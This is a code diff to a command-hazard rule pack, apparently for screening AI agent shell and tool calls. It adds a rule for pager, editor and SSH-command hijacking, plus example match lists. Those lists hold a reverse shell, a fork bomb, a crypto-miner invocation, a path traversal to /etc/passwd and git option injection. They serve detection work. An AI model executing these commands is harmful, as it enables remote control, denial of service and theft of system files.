@@ -21,6 +21,12 @@ const detached = (effect: Effect, facts: Facts) =>
       (SOURCING.has(argv[0] ?? '') && argv[1] === effect.target.value),
   )
 
+/** A program file, or a program nobody has heard of, where a setting names a pager, an editor or the way to another machine. */
+const takesPlace = (effect: Effect) =>
+  effect.verb === 'execute' &&
+  typeof attribute(effect, 'in_place_of') === 'string' &&
+  (effect.target.kind === 'script' || action(effect, 'program:unknown'))
+
 export const code: HazardPack = {
   name: 'code',
   summary: 'code from the network, hidden code, shells handed to others, and what could not be analysed',
@@ -130,7 +136,7 @@ export const code: HazardPack = {
       level: 'hard',
       reason: 'hands a shell to another machine',
       advice: null,
-      safer: null,
+      safer: 'nc -z localhost 5432',
       examples: {
         match: [
           'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
@@ -147,7 +153,7 @@ export const code: HazardPack = {
       level: 'hard',
       reason: 'exhausts the machine',
       advice: null,
-      safer: null,
+      safer: 'seq 1 3',
       examples: { match: [':(){ :|:& };:'], not_match: ['f(){ echo hi; }; f'] },
       actions: ['proc:fork-bomb', 'resource:exhaust'],
     },
@@ -157,7 +163,7 @@ export const code: HazardPack = {
       level: 'hard',
       reason: 'mines a currency on this machine',
       advice: null,
-      safer: null,
+      safer: 'uptime',
       examples: { match: ['xmrig -o stratum+tcp://pool.example:3333 -u wallet'], not_match: ['echo xmrig'] },
       actions: ['proc:mine'],
     },
@@ -194,8 +200,14 @@ export const code: HazardPack = {
       level: 'hard',
       reason: 'an argument carries a command, an option or a path escape where plain data belongs',
       advice: 'Pass plain values only.',
-      safer: null,
-      examples: { match: [], not_match: ['echo "a; b"'] },
+      safer: { tool: 'Read', args: { file_path: 'README.md' } },
+      examples: {
+        match: [
+          { tool: 'mcp__filesystem__read_file', args: { path: '../../../etc/passwd' } },
+          { tool: 'mcp__git__git_diff', args: { repo_path: '.', target: '--output=/tmp/x' } },
+        ],
+        not_match: ['echo "a; b"', { tool: 'mcp__git__git_diff', args: { repo_path: '.', target: 'main' } }],
+      },
       when: (effect) => typeof attribute(effect, 'injection') === 'string',
     },
     {
@@ -242,6 +254,12 @@ export const code: HazardPack = {
           'export PATH=./:$PATH',
           'git -c core.hooksPath=/tmp/hooks commit -m x',
           'echo /tmp/bin >> "$GITHUB_PATH"',
+          'GIT_SSH_COMMAND=./helper git fetch',
+          'git -c core.pager=./show log',
+          'EDITOR=acme-edit git commit',
+          'PAGER=sh man ls',
+          "CC='gcc -fplugin=/tmp/x.so' make",
+          'git --exec-path=./bin status',
         ],
         not_match: [
           'echo "done=1" >> "$GITHUB_OUTPUT"',
@@ -249,10 +267,17 @@ export const code: HazardPack = {
           'export FOO=bar',
           'git -c core.hooksPath=/dev/null commit -m x',
           'git -c core.hooksPath=.githooks commit -m x',
+          "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch",
+          'git -c core.pager=less log',
+          'GIT_EDITOR=true git rebase --continue',
+          'CC=clang CFLAGS="-O2 -g" make',
+          'RUSTC_WRAPPER=sccache cargo build',
         ],
       },
       when: (effect) =>
         (action(effect, 'env:inject') && !has(effect, 'literal')) ||
+        action(effect, 'git:exec-path') ||
+        takesPlace(effect) ||
         (effect.verb === 'write' && LATER_STEPS.test(effect.target.value)) ||
         (effect.verb === 'execute' &&
           action(effect, 'git:hooks') &&
